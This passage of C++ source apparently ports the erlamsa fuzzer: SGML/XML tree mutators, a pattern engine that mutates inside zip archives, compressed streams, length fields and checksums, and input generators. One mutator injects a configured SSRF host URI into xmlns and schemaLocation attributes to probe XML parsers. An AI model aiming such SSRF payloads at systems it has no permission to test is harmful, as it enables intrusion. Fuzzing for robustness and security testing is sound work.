    if (e->k == S_TAG) {
      c.t++; c.c++; long t = c.t, i = c.c;
      auto x = std::make_shared<SNode>(*e); x->kids.clear();
      sgml_walk(e->kids, x->kids, c, fun);
      fun(x, acc, t, i);
    } else { c.c++; fun(e, acc, c.t, c.c); }
  }
}
std::vector<SN> sgml_walk_top(const std::vector<SN>& ast, const SWalkFun& fun) { std::vector<SN> acc; SCnt c; sgml_walk(ast, acc, c, fun); return acc; }
void sgml_count(const std::vector<SN>& l, SCnt& c) { for (auto& e : l) { c.c++; if (e->k == S_TAG) { c.t++; sgml_count(e->kids, c); } } }
// select/2 :381-404
struct SSel { SN elem; long t = 0, c = 0; bool found = false; };
void sgml_select(const std::vector<SN>& l, SCnt& c, bool want_tag, long n, SSel& r) {
  for (auto& e : l) {
    if (r.found) return;
    if (e->k == S_TAG) {
      c.t++; c.c++;
      if (want_tag ? c.t == n : c.c == n) { r.elem = e; r.t = c.t; r.c = c.c; r.found = true; return; }
      sgml_select(e->kids, c, want_tag, n, r);
    } else {
      c.c++;
      if (!want_tag && c.c == n) { r.elem = e; r.t = c.t; r.c = c.c; r.found = true; return; }
    }
  }
}
SSel sgml_select_elem(const std::vector<SN>& ast, long n) { SSel r; SCnt c; sgml_select(ast, c, false, n, r); if (!r.found) throw ErlCrash("badmatch: select_elem"); return r; }
SSel sgml_select_tag(const std::vector<SN>& ast, long n) { SSel r; SCnt c; sgml_select(ast, c, true, n, r); if (!r.found) throw ErlCrash("badmatch: select_tag"); return r; }

std::vector<SN> sgml_replace_elem(const std::vector<SN>& ast, long r, const SN& el) {       // :445-454
  return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long, long i) { tree.push_back(i == r ? el : e); });
}
std::vector<SN> sgml_repeat_elem(const std::vector<SN>& ast, long r, long times) {          // :456-468
  return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long, long i) { tree.push_back(e); if (i == r) for (long k = 0; k < times; k++) tree.push_back(e); });
}
std::vector<SN> sgml_insert_elem(const std::vector<SN>& ast, long r, const SN& ne) {        // :470-477
  return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long, long i) { tree.push_back(e); if (i == r) tree.push_back(ne); });
}
SN sgml_pump_path(SN start, long end, long n) {                                             // :488-499
  for (; n > 0; n--) {
    std::vector<SN> one{start};
    std::vector<SN> res = sgml_walk_top(one, [&](const SN& e, std::vector<SN>& tree, long, long i) { tree.push_back(i == end ? start : e); });
    if (res.empty()) throw ErlCrash("badarg: hd([])");
    start = res[0]; end = end * 2 - 1;
  }
  return start;
}
std::string ssrf_uri(Ctx& c) { return "://" + c.cfg->ssrf_host + ":" + std::to_string(c.cfg->ssrf_port) + "/"; }   // get_ssrf_uri :727-731
bool sparams_eq(const std::vector<SParam>& a, const std::vector<SParam>& b) {
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); i++) if (a[i].name != b[i].name || a[i].value != b[i].value || a[i].delim != b[i].delim) return false;
  return true;
}
// Erlang term order on {Name, Value, Delim} tuples of strings (ties of random_permutation/1's sort keys)
int bytes_cmp(const Bytes& a, const Bytes& b) { size_t m = std::min(a.size(), b.size()); int r = m ? memcmp(a.data(), b.data(), m) : 0; if (r) return r; return a.size() < b.size() ? -1 : (a.size() > b.size() ? 1 : 0); }
bool sparam_less(const SParam& a, const SParam& b) {
  int r = bytes_cmp(a.name, b.name); if (r) return r < 0;
  r = bytes_cmp(a.value, b.value); if (r) return r < 0;
  auto ds = [](int d) { return d == 0 ? Bytes{} : (d == 1 ? Bytes{'\''} : Bytes{'"'}); };
  return bytes_cmp(ds(a.delim), ds(b.delim)) < 0;
}
std::vector<Muta> inner_muta(Ctx& c, const std::vector<int>& names) {                       // inner_mutations/1 :1346-1356 + mutators_mutator/1
  std::vector<Muta> table = mutations_table(c.rnd), sel;
  for (auto& m : table) for (int nm : names) if (m.name == nm) { sel.insert(sel.begin(), m); break; }
  return mutators_mutator(c.rnd, sel);
}

// sgml_mutation/2,3 :696-737
std::vector<SN> sgml_mutation(Ctx& c, const std::vector<SN>& ast, long n, long nt, int* d) {
  uint64_t r = c.rnd.rand(12);
  *d = 1;
  static const char* const SG_META[8] = {"sgml_swap", "sgml_dup", "sgml_pump", "sgml_repeat", "sgml_insert2", "sgml_permparams", "sgml_breaktag", "sgml_insert"};
  if (r < 8) c.m2(SG_META[r], 1ll);                                           // {[{sgml_swap, 1}], Res, 1} ... :700-723
  switch (r) {
    case 0: {                                                                 // sgml_swap :530-543
      long r1 = (long)c.rnd.erand(n), r2 = (long)c.rnd.erand(n);
      SN e1 = sgml_select_elem(ast, r1).elem, e2 = sgml_select_elem(ast, r2).elem;
      return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long, long i) { tree.push_back(i == r1 ? e2 : (i == r2 ? e1 : e)); });
    }
    case 1: { long rr = (long)c.rnd.erand(n); return sgml_repeat_elem(ast, rr, 1); }          // sgml_dup :522-524
    case 2: {                                                                 // sgml_pump :502-520
      *d = -2;
      if (nt == 0) return ast;
      long rr = (long)c.rnd.erand(nt);
      SSel st = sgml_select_tag(ast, rr);
      SCnt cc; std::vector<SN> one{st.elem}; sgml_count(one, cc);
      long e = (long)c.rnd.erand((uint64_t)(cc.c - 1)) + 1;                   // not the tag itself
      long pc = (long)c.rnd.erand((uint64_t)std::trunc(1000.0 / (100.0 + (double)cc.c)));
      SN pumped = sgml_pump_path(st.elem, e, pc);
      return sgml_replace_elem(ast, st.c, pumped);
    }
    case 3: { long rr = (long)c.rnd.erand(n); long times = (long)c.rnd.erand(100); return sgml_repeat_elem(ast, rr, times); }   // sgml_repeat :526-528
    case 4: {                                                                 // sgml_insert2 :565-569
      long r1 = (long)c.rnd.erand(n), r2 = (long)c.rnd.erand(n);
      SN ne = sgml_select_elem(ast, r1).elem;
      return sgml_insert_elem(ast, r2, ne);
    }
    case 5: {                                                                 // sgml_permparams :571-579
      long rr = (long)c.rnd.erand(nt);
      return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long t, long) {
        if (e->k == S_TAG && t == rr) { auto x = std::make_shared<SNode>(*e); x->params = c.rnd.random_permutation(e->params, sparam_less); tree.push_back(x); }
        else tree.push_back(e);
      });
    }
    case 6: {                                                                 // sgml_breaktag :581-592
      long rr = (long)c.rnd.erand(nt);
      return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long t, long) {
        if (e->k == S_TAG && t == rr) {
          // Internals ++ [{open,..} | Tree] on the reversed accumulator: the open tag, then the children in
          // REVERSE order once the accumulator is reversed back
          bool open = c.rnd.rand(1) == 0;
          auto x = std::make_shared<SNode>(); x->k = open ? S_OPEN : S_CLOSE; x->name = open ? e->name : e->close_name; if (open) x->params = e->params;
          tree.push_back(x);
          for (size_t k = e->kids.size(); k-- > 0;) tree.push_back(e->kids[k]);
        } else tree.push_back(e);
      });
    }
    case 7: {                                                                 // sgml_insert :547-562
      long r1 = (long)c.rnd.erand(n), r2 = (long)c.rnd.erand(n);
      SN ne = sgml_select_elem(ast, r1).elem;
      if (ne->k != S_TAG) return sgml_insert_elem(ast, r2, ne);
      return sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long, long i) {
        if (i == r2) { auto x = std::make_shared<SNode>(*ne); x->kids.clear(); x->kids.push_back(e); tree.push_back(x); }
        else tree.push_back(e);
      });
    }
    case 8: {                                                                 // sgml_xmlfeatures(Ast, NT, 1) :651-665
      if (nt <= 0) { *d = -1; c.m2("sgml_xmlfeatures", -1ll); return ast; }    // sgml_xmlfeatures(Ast, _NT, _) :664-665
      std::string uri = "http" + ssrf_uri(c);
      bool changed = false;
      std::vector<SN> res = sgml_walk_top(ast, [&](const SN& e, std::vector<SN>& tree, long t, long) {
        if (e->k != S_TAG) { tree.push_back(e); return; }
        if (c.rnd.erand((uint64_t)std::trunc((double)t * 1.5)) != 1) { tree.push_back(e); return; }     // xmlns_modify/2 :618-625
        std::vector<SParam> np;                                               // xmlns_modify_params/1,2 :594-616
        for (auto& p : e->params) {
          if (p.name.size() >= 5 && memcmp(p.name.data(), "xmlns", 5) == 0) {
            SParam q = p;
            if (c.rnd.erand(2) == 1) { const char* sp = " "; q.value.insert(q.value.end(), sp, sp + 1); q.value.insert(q.value.end(), uri.begin(), uri.end()); }
            else q.value.assign(uri.begin(), uri.end());
            np.push_back(q);
          } else np.push_back(p);
        }
        if (sparams_eq(np, e->params)) {
          std::vector<SParam> pre;
          for (const char* nm : {"xmlns", "xmlns:xsi", "xsi:schemaLocation"}) { SParam q; q.name.assign(nm, nm + strlen(nm)); q.value.assign(uri.begin(), uri.end()); q.delim = 2; pre.push_back(q); }
          pre.insert(pre.end(), e->params.begin(), e->params.end());
          np = pre;
        }
        auto x = std::make_shared<SNode>(*e); x->params = np; tree.push_back(x); changed = true;
      });
      if (!changed) { *d = -1; c.m2("sgml_xmlfeatures", "failed"); return ast; }   // Ast =:= NewAst :661
      c.m2("sgml_xmlfeatures", "xmlns");
      return res;
    }
    default: break;
  }
  c.m2("sgml_innertext", 1ll);                                                // {[Meta, {sgml_innertext, 1}], Res, 1} :737: in front of what the walk adds
  // inner text :727-737: walk2acc/3 :363-379 visits children before the tag itself
  static const std::vector<int> names = {M_AB, M_AD, M_BD, M_B64, M_LD, M_LP, M_LRI, M_LR, M_NUM, M_SD, M_URI};   // `json` names nothing (:1343)
  std::vector<Muta> muta = inner_muta(c, names);
  auto mutate_innertext = [&](const Bytes& bin, long nt2) -> Bytes {          // :667-681
    long nw = 0; for (uint8_t x : bin) if (x != 0 && x != 10 && x != 13 && x != 32) nw++;
    if (!(nw > 0 && nt2 > 0)) return bin;
    double rnd = c.rnd.rand_float();
    if (rnd > 3.0 / (double)nt2) return bin;
    std::vector<Muta> m = muta; BList one{bin};
    const size_t base0 = c.meta_base; c.meta_base = c.meta_size();            // Muta([Binary], []) :670
    mux_fuzzers(c, m, one);
    c.meta_base = base0;
    if (one.empty()) throw ErlCrash("badarg: hd([])");
    return one[0];
  };
  std::function<void(const std::vector<SN>&, std::vector<SN>&)> w2 = [&](const std::vector<SN>& l, std::vector<SN>& acc) {
    for (auto& e : l) {
      if (e->k == S_TAG) {
        auto x = std::make_shared<SNode>(*e); x->kids.clear();
        w2(e->kids, x->kids);
        long np = (long)e->params.size();
        for (auto& p : x->params) p.value = mutate_innertext(p.value, nt + np);             // try_mutate_innertext :683-690
        acc.push_back(x);
      } else if (e->k == S_TEXT) {
        auto x = std::make_shared<SNode>(*e); x->text = mutate_innertext(e->text, nt); acc.push_back(x);
      } else acc.push_back(e);
    }
  };
  std::vector<SN> out; w2(ast, out);
  return out;
}

int sgml_mutate(Ctx& c, BList& ll) {                                          // sgml_mutate/2 :739-757
  const Bytes h = ll[0];
  if (binarish(h)) return -1;                                                 // parse/2 :198-199
  if (const char* dp = getenv("EO_DUMP_SGM")) {                               // debugging aid: every non-binarish sgm input, appended to a file
    FILE* f = fopen(dp, "ab"); uint32_t n = (uint32_t)h.size(); fwrite(&n, 4, 1, f); fwrite(h.data(), 1, n, f); fclose(f);
  }
  std::vector<STok> toks;
  try { toks = sgml_tokenize(h); } catch (IncorrectSgml&) { return -1; } catch (SgmlOtherError&) { throw ErlCrash("function_clause in erlamsa_sgml:tz/2"); }
  SBuild b = sgml_build(toks, 0, {});
  if (b.st != 0) throw ErlCrash("try_clause: parse/1");
  int d = 1;
  const size_t meta0 = c.meta_size();
  std::vector<SN> res = sgml_mutation(c, b.ast, b.n, b.nt, &d);
  Bytes nb; sgml_fold(res, nb);
  if (nb == h) { c.meta_drop_before(meta0); return -1; }                      // {fun sgml_mutate/2, Ll, NewMeta, -1} :748-749
  ll[0] = nb;
  return d + (int)(nb.size() / (AVG_BLOCK_SIZE * 10));
}

// ===========================================================================
// erlamsa_patterns.erl
// ===========================================================================
enum PatId { P_OD, P_ND, P_BU, P_SK, P_SZ, P_CS, P_AR, P_CP, P_CO, P_NU, P_COUNT };
struct PatDef { const char* name; int pri; };
const PatDef PAT_TABLE[P_COUNT] = {{"od", 1}, {"nd", 2}, {"bu", 1}, {"sk", 2}, {"sz", 2}, {"cs", 1}, {"ar", 1}, {"cp", 1}, {"co", 0}, {"nu", 0}};   // :395-405

// io_lib:format("~p", [F]) for a float F of integral value k >= 0 (erlamsa_patterns.erl:154 {skipped, Len/8}): the shortest digits,
// written plainly while that is not longer than the exponent form (io_lib_format:fwrite_g/1 -> insert_decimal/2): 17.0, 1000.0,
// 1.0e5, 1.23e6, 123456.0
std::string erl_float_of_int(uint64_t k) {
  if (k == 0) return "0.0";
  std::string digs = std::to_string(k);
  const int place = (int)digs.size();
  while (digs.size() > 1 && digs.back() == '0') digs.pop_back();
  const int l = (int)digs.size(), exp = place - 1;
  const int expcost = (int)std::to_string(exp).size() + 2;
  if (place - l <= expcost) return digs + std::string((size_t)(place - l), '0') + ".0";
  std::string m = digs.substr(0, 1) + "." + (l > 1 ? digs.substr(1) : std::string("0"));
  return m + "e" + std::to_string(exp);
}
// io_lib:format("~p", [Str]) for a file name out of zip:foldl (a list of bytes; the restated prim_zip passes ASCII names only):
// a printable list is written as a string with the usual escapes, anything else as a list of integers
std::string erl_string_p(const Bytes& s) {
  bool printable = true;
  for (uint8_t ch : s) if (!((ch >= 32 && ch <= 126) || ch == 8 || ch == 9 || ch == 10 || ch == 11 || ch == 12 || ch == 13 || ch == 27 || ch >= 160)) printable = false;
  std::string o;
  if (!printable) { o = "["; for (size_t i = 0; i < s.size(); i++) { if (i) o += ","; o += std::to_string((int)s[i]); } return o + "]"; }
  if (s.empty()) return "[]";
  o = "\"";
  for (uint8_t ch : s) {
    switch (ch) {
      case '"': o += "\\\""; break; case '\\': o += "\\\\"; break; case 10: o += "\\n"; break; case 13: o += "\\r"; break; case 9: o += "\\t"; break;
      case 11: o += "\\v"; break; case 8: o += "\\b"; break; case 12: o += "\\f"; break; case 27: o += "\\e"; break;
      default: o.push_back((char)ch);
    }
  }
  return o + "\"";
}

struct PatEngine {
  Ctx& c;
  explicit PatEngine(Ctx& cc) : c(cc) {}
  // `emit` = where blocks written by blocks_port go (a sizer/csum sub-evaluation redirects it)
  typedef std::function<void(BList&, Bytes&)> Cont;

  void emit_all(const BList& l, Bytes& sink) { for (auto& b : l) { sink.insert(sink.end(), b.begin(), b.end()); } c.check_cap(sink.size()); }

  // split/1 + split_into_maxblocks/2 :45-60 : applied to {This, LlN}
  void split(BList& l) {
    if (l.empty() || l[0].size() <= ABSMAX_BINARY_BLOCK) return;
    Bytes th = l[0]; BList parts; size_t pos = 0;
    while (th.size() - pos > ABSMAX_BINARY_BLOCK) {
      size_t as = ABSMAXHALF_BINARY_BLOCK + c.rnd.rand(ABSMAXHALF_BINARY_BLOCK) - 1;
      parts.emplace_back(th.begin() + pos, th.begin() + pos + as); pos += as;
    }
    parts.emplace_back(th.begin() + pos, th.end());
    BList nl = parts; nl.insert(nl.end(), l.begin() + 1, l.end()); l.swap(nl);
  }
  // mutate_once_loop/6 :281-296 ; l = [This | Ll]
  void mutate_once_loop(int ip, BList l, const Cont& cont, Bytes& sink) {
    while (true) {
      uint64_t n = c.rnd.rand((uint64_t)ip);
      if (n == 0 || l.size() == 1) { mux_fuzzers(c, c.fs, l); cont(l, sink); return; }
      sink.insert(sink.end(), l[0].begin(), l[0].end()); l.erase(l.begin());
    }
  }
  // mutate_once/4 :265-278
  // uncons(Ll, false) on a fun Ll calls it (erlamsa_utils.erl:93): the port_stream / jump_somewhere closures of the file and
  // jump generators draw their block sizes only now, AFTER the pattern's own first draws
  void force(BList& ll) { if (c.lazy_ll) { auto f = c.lazy_ll; c.lazy_ll = nullptr; ll = f(); } }
  void mutate_once(BList ll, const Cont& cont, Bytes& sink) {
    if (!c.lazy_ll && ll.size() == 1 && ll[0].empty()) { c.m2("mutate_once", "empty_stopped"); return; }   // {Mutator, [{mutate_once, empty_stopped} | Meta]} :268-269: nothing more is written (a fun does not match [<<>>])
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) { BList e; cont(e, sink); return; }
    split(ll);
    mutate_once_loop(ip, ll, cont, sink);
  }
  void run(int pat, BList ll, Bytes& sink) {
    c.t("pattern", PAT_TABLE[pat].name);
    // [{pattern, once_dec | many_dec | burst} | Meta] :309,:326,:349; make_complex_pat's [{pattern, Type} | Meta] :356; co adds nothing of
    // its own (:380-384), nu conses {pattern, no_muta} (:390)
    static const char* const PAT_META[P_COUNT] = {"once_dec", "many_dec", "burst", "skipper", "sizer", "csum", "archiver", "compressed", nullptr, "no_muta"};
    if (PAT_META[pat]) c.m2("pattern", PAT_META[pat]);
    switch (pat) {
      case P_OD: mutate_once(ll, [this](BList& l, Bytes& s) { emit_all(l, s); }, sink); return;                  // :306-309
      case P_ND: mutate_once(ll, [this](BList& l, Bytes& s) { many_dec_cont(l, s); }, sink); return;             // :323-326
      case P_BU: mutate_once(ll, [this](BList& l, Bytes& s) { burst_cont(l, s); }, sink); return;                // :346-349
      case P_CO: if (c.rnd.erand(2) == 1) run(P_NU, ll, sink); else run(P_OD, ll, sink); return;                 // :378-384
      case P_NU: { force(ll); split(ll); emit_all(ll, sink); return; }                                          // :386-390
      default: break;
    }
    // make_complex_pat :351-357 : the continuation pattern is drawn first
    int contpat = (int)c.rnd.rand_elem_idx(P_COUNT);
    Cont next = [this, contpat](BList& l, Bytes& s) { run(contpat, l, s); };
    switch (pat) {
      case P_SK: skipper(ll, next, sink); return;
      case P_SZ: sizer(ll, next, sink); return;
      case P_CS: csum(ll, next, sink); return;
      case P_AR: archiver(ll, next, sink); return;
      case P_CP: compressed(ll, next, sink); return;
    }
  }
  void many_dec_cont(BList& l, Bytes& sink) {                                 // :313-321
    if (c.rnd.rand_occurs_fixed(4, 5)) run_nd_again(l, sink); else emit_all(l, sink);
  }
  void run_nd_again(BList& l, Bytes& sink) { c.t("pattern", "nd"); c.m2("pattern", "many_dec"); mutate_once(l, [this](BList& l2, Bytes& s) { many_dec_cont(l2, s); }, sink); }
  void burst_cont(BList& l, Bytes& sink) {                                    // :331-344
    int n = 1;
    while (true) {
      bool p = c.rnd.rand_occurs_fixed(4, 5);
      if (p || n < 2) { mux_fuzzers(c, c.fs, l); n++; } else { emit_all(l, sink); return; }
    }
  }
  void skipper(BList ll, const Cont& next, Bytes& sink) {                     // mutate_once_skipper :146-161
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) throw ErlCrash("badarg: size(false)");
    Bytes bin = ll[0];
    size_t len = c.rnd.rand((uint64_t)std::trunc((double)bin.size() / 2.0));
    if (c.meta) c.m("{skipped," + erl_float_of_int(len) + "}");              // [{skipped, Len/8} | Meta] :154 (Len in bits: a float)
    sink.insert(sink.end(), bin.begin(), bin.begin() + len);
    ll[0] = Bytes(bin.begin() + len, bin.end());
    split(ll);
    mutate_once_loop(ip, ll, next, sink);
  }
  void sizer(BList ll, const Cont& next, Bytes& sink) {                       // mutate_once_sizer :81-111
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) throw ErlCrash("function_clause: get_possible_simple_lens(false)");
    Bytes bin = ll[0]; BList rest(ll.begin() + 1, ll.end());
    std::vector<Sizer> cands = get_possible_simple_lens(c, bin);
    int64_t ei = c.rnd.rand_elem_idx(cands.size());
    if (ei < 0) { c.m2("sizer", "failed"); split(ll); mutate_once_loop(ip, ll, next, sink); return; }   // :85
    const Sizer& e = cands[ei]; int nb = e.size / 8;
    if (c.meta) c.m("{sizer,{ok," + std::to_string(e.size) + "," + (e.big ? "big" : "little") + "," + std::to_string(e.len) + "," + std::to_string(e.a) + "," + std::to_string(e.b) + "}}");   // :97
    if (bin.size() < e.a + nb + e.len) throw ErlCrash("badmatch: extract_blob");
    Bytes h(bin.begin(), bin.begin() + e.a), blob(bin.begin() + e.a + nb, bin.begin() + e.a + nb + e.len), tailbin(bin.begin() + e.a + nb + e.len, bin.end());
    BList sub; sub.push_back(blob); sub.insert(sub.end(), rest.begin(), rest.end());
    split(sub);
    Bytes newblob;                                                            // prepare4sizer :63-78
    mutate_once_loop(ip, sub, next, newblob);
    Bytes nb2 = h; put_int(nb2, newblob.size(), e.size, e.big); nb2.insert(nb2.end(), newblob.begin(), newblob.end());
    sink.insert(sink.end(), nb2.begin(), nb2.end()); sink.insert(sink.end(), tailbin.begin(), tailbin.end());
    c.check_cap(sink.size());
  }
  void csum(BList ll, const Cont& next, Bytes& sink) {                        // mutate_once_csum :115-144
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) throw ErlCrash("function_clause: get_possible_csum_locations(false)");
    Bytes bin = ll[0]; BList rest(ll.begin() + 1, ll.end());
    std::vector<Csum> cands = get_possible_csum_locations(bin);
    int64_t ei = c.rnd.rand_elem_idx(cands.size());
    if (ei < 0) { c.m2("csum", "failed"); split(ll); mutate_once_loop(ip, ll, next, sink); return; }   // :119
    const Csum& e = cands[ei];
    if (c.meta) c.m(std::string("{csum,{") + (e.crc ? "crc32,32," : "xor8,8,") + std::to_string(e.plen) + "," + std::to_string(e.blen) + "}}");   // :131
    Bytes p(bin.begin(), bin.begin() + e.plen), blob(bin.begin() + e.plen, bin.begin() + e.plen + e.blen);
    BList sub; sub.push_back(blob); sub.insert(sub.end(), rest.begin(), rest.end());
    split(sub);
    Bytes newblob;
    mutate_once_loop(ip, sub, next, newblob);
    Bytes nb2 = p; nb2.insert(nb2.end(), newblob.begin(), newblob.end());
    if (e.crc) put_int(nb2, otp::crc32(newblob.data(), newblob.size()), 32, true);
    else { uint8_t x = 0; for (uint8_t b : newblob) x ^= b; nb2.push_back(x); }
    sink.insert(sink.end(), nb2.begin(), nb2.end());
    c.check_cap(sink.size());
  }
  void archiver(BList ll, const Cont& next, Bytes& sink) {                    // mutate_once_archiver/4 :203-214 and /7 :165-200
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) throw ErlCrash("badarg");
    Bytes all; for (auto& b : ll) all.insert(all.end(), b.begin(), b.end());  // list_to_binary([Bin|Rest]); NewRest = []
    // UnZip = zip:foldl(fun(N, I, B, Acc) -> [{N, B(), I()} | Acc] end, [], {Name, ArchiveBin})
    otpzip::Reader rd; std::vector<otpzip::Entry> es;
    if (c.guard) c.guard->codec(all.size());
    int rc = otpzip::open(all, &rd);
    if (rc == otpzip::ZR_UNSUP) throw Unsupported();
    for (uint32_t i = 0; rc == otpzip::ZR_OK && i < rd.entries; i++) {
      otpzip::Entry e;
      rc = otpzip::next(&rd, &e);
      if (rc == otpzip::ZR_UNSUP) throw Unsupported();
      if (rc == otpzip::ZR_CRASH) throw ErlCrash("data_error in zip:foldl");
      if (rc == otpzip::ZR_OK) { es.push_back(e); if (c.guard) c.guard->codec(e.data.size()); }
    }
    const std::vector<Muta> mutator = c.fs;                                   // every inner evaluation starts from the Mutator the pattern was given
    const size_t trace_mark = c.trace ? c.trace->size() : 0;
    const size_t meta_mark = c.meta_size();
    if (rc == otpzip::ZR_OK) {
      // lists:mapfoldl over FileSpec, which foldl built by prepending: the LAST central-directory entry comes first
      for (size_t k = es.size(); k-- > 0;) {
        uint64_t r = c.rnd.rand(1000);
        if (r > 750) {                                                        // :177-183
          Bytes nb; BList one{es[k].data};
          if (c.meta) c.m("{archiver," + erl_string_p(es[k].name) + "}");      // [NM, {archiver, N} | Acc] :183: the name, then what the file's evaluation adds
          const size_t base0 = c.meta_base; c.meta_base = c.meta_size();
          mutate_once_loop(ip, one, next, nb);                                // prepare4sizer(mutate_once_loop(Mutator, [], NextPat, Ip, B, []))
          c.meta_base = base0;
          es[k].data = nb;
          c.fs = mutator;
        }
      }
      Bytes newbin;
      if (c.guard) { uint64_t sum = 0; for (auto& e : es) sum += e.data.size(); c.guard->codec(sum); }
      rc = otpzip::create(es, &newbin);                                       // zip:create(Name, lists:reverse(NewFileSpec), [memory])
      if (rc == otpzip::ZR_OK) { c.m2("archiver", "ok"); c.check_cap(newbin.size()); sink.insert(sink.end(), newbin.begin(), newbin.end()); return; }   // [NewBin | {fun .., [{archiver, ok}, flatten(NewMeta) | Meta]}] :196
      if (c.trace) c.trace->resize(trace_mark);
      if (c.meta) c.meta->resize(meta_mark);                               // {error, Err}: the failed clause with the Meta the pattern was given
    }
    c.m2("archiver", "failed");                                               // SizerMeta = [{archiver, failed} | Meta] :169
    BList one{all};                                                           // mutate_once_archiver(Binary, {error, _}, Rest = [], ..) :165-174
    split(one);
    mutate_once_loop(ip, one, next, sink);
  }
  void compressed(BList ll, const Cont& next, Bytes& sink) {                  // mutate_once_compressed/4 :248-260 and /6 :216-246
    int ip = (int)c.rnd.rand(INITIAL_IP);
    force(ll);
    if (ll.empty()) throw ErlCrash("badarg: zlib:gunzip(false)");
    const Bytes bin = ll[0]; BList rest(ll.begin() + 1, ll.end());
    Bytes data; int fmt = 0;                                                  // 1 gzip, 2 zlib
    if (c.guard) c.guard->codec(bin.size());
    if (otpz::gunzip(bin, &data)) fmt = 1;                                    // try zlib:gunzip(Bin) ... catch error:data_error -> deflate
    else if (otpz::inflate_noend(bin, &data)) fmt = 2;                        // catch _:_ -> {Bin, Meta}
    if (fmt && c.guard) c.guard->codec(data.size());
    Bytes newbin = bin;
    const std::vector<Muta> mutator = c.fs;                                   // the closures keep using Mutator, not what the inner evaluation returns
    const size_t trace_mark = c.trace ? c.trace->size() : 0;
    const size_t meta_mark = c.meta_size();
    if (fmt) {
      Bytes newdata;                                                          // prepare4sizer(mutate_once_loop(Mutator, [], NextPat, Ip, Data, []))
      BList one{data};
      // {NewBin, [{compressed, gzip}, NewMeta, {decompressed, gzip} | Meta]} :223 (zlib :241): printed in the order decompressed,
      // what the evaluation of the payload added (a Meta list of its own, started from []), compressed
      c.m2("decompressed", fmt == 1 ? "gzip" : "zlib");
      const size_t base0 = c.meta_base; c.meta_base = c.meta_size();
      mutate_once_loop(ip, one, next, newdata);
      c.meta_base = base0;
      c.m2("compressed", fmt == 1 ? "gzip" : "zlib");
      if (c.guard) c.guard->codec(newdata.size());
      newbin = otpz::deflate_all(newdata, fmt == 1 ? 31 : 15);                // zlib:gzip(NewData) | deflateInit(ZD, default), deflate(ZD, [NewData], finish)
      c.check_cap(newbin.size());
    }
    BList l2{newbin}; l2.insert(l2.end(), rest.begin(), rest.end());
    split(l2);                                                                // {This, LlN} = split({NewBin, Rest}) :254
    if (newbin != bin) {                                                      // [NewBin | Rest] ++ [{fun .. end, NewMeta}]
      emit_all(l2, sink);                                                     // (the pieces of split/1 are NewBin again)
      return;
    }
    c.fs = mutator;                                                           // mutate_once_loop(Mutator, [{compressed, failed} | Meta], ..): the inner
    if (c.trace) c.trace->resize(trace_mark);                                 // evaluation's mutator state and meta are dropped
    if (c.meta) c.meta->resize(meta_mark);
    c.m2("compressed", "failed");                                             // :259
    mutate_once_loop(ip, l2, next, sink);
  }
};

// ===========================================================================
// erlamsa_gen.erl (direct + random) and erlamsa_main.erl driver
// ===========================================================================
BList finish(Rnd& rnd, size_t len) {                                          // :43-51
  uint64_t n = rnd.rand(len + 1);
  if (n != len) return {};
  uint64_t bits = rnd.rand_range(1, 16);
  uint64_t nlen = rnd.rand((uint64_t)1 << bits);
  Bytes b(nlen);
  for (uint64_t i = 0; i < nlen; i++) b[nlen - 1 - i] = (uint8_t)rnd.rand(256);   // random_numbers/2 prepends :178-183
  if (b.empty()) return {};                                                   // check_empty :178-179
  return {b};
}
uint64_t rand_block_size(Rnd& rnd, double bs) {                               // :55-56
  return std::max<uint64_t>(rnd.rand((uint64_t)std::llround(MAX_BLOCK_SIZE * bs)), (uint64_t)std::llround(MIN_BLOCK_SIZE * bs));
}
BList direct_generator(Rnd& rnd, const Bytes& input, double bs) {             // :152-164 (split_binary's guard never holds)
  rand_block_size(rnd, bs);
  BList l{input};
  BList f = finish(rnd, input.size());
  l.insert(l.end(), f.begin(), f.end());
  return l;
}
BList random_stream(Rnd& rnd, double bs) {                                    // :167-178
  BList out;
  while (true) {
    uint64_t n = rnd.rand_range(32, (int64_t)std::llround(MAX_BLOCK_SIZE * bs));
    out.push_back(rnd.random_block(n));
    uint64_t ip = rnd.rand_range(1, 100);
    if (rnd.rand(ip) == 0) return out;
  }
}

// port_stream/2 forced (:59-90): blocks of rand_block_size bytes; a short read is followed by eof, which ends the list
// with what was read and finish(Len); the next block size is drawn only after a full block
BList stream_port(Rnd& rnd, const Bytes& file, double bs) {
  BList out; size_t pos = 0;
  uint64_t wanted = rand_block_size(rnd, bs);
  while (true) {
    size_t avail = file.size() - pos;
    if (avail == 0) break;                                                     // eof with Last = false
    if (avail >= wanted) { out.emplace_back(file.begin() + pos, file.begin() + pos + wanted); pos += wanted; wanted = rand_block_size(rnd, bs); continue; }
    out.emplace_back(file.begin() + pos, file.end()); pos = file.size(); break; // DataLen < Wanted, then eof: [Last | finish(..)]
  }
  BList f = finish(rnd, pos);
  out.insert(out.end(), f.begin(), f.end());
  return out;
}
// jump_somewhere/2 :124-133
BList jump_somewhere(Rnd& rnd, const Bytes& f1, const Bytes& f2, double bs) {
  BList l1 = stream_port(rnd, f1, bs);
  int64_t i1 = rnd.rand_elem_idx(l1.size());
  BList l2 = stream_port(rnd, f2, bs);
  int64_t i2 = rnd.rand_elem_idx(l2.size());
  if (i1 < 0 || i2 < 0) throw ErlCrash("badarg: size([])");                    // rand_elem([]) = []
  const Bytes& d1 = l1[i1]; const Bytes& d2 = l2[i2];
  uint64_t s1 = rnd.rand(d1.size()), s2 = rnd.rand(d2.size());
  uint64_t n1 = rnd.erand(d1.size() - s1), n2 = rnd.erand(d2.size() - s2);
  Bytes b(d1.begin() + s1, d1.begin() + s1 + n1);
  b.insert(b.end(), d2.begin() + s2, d2.begin() + s2 + n2);
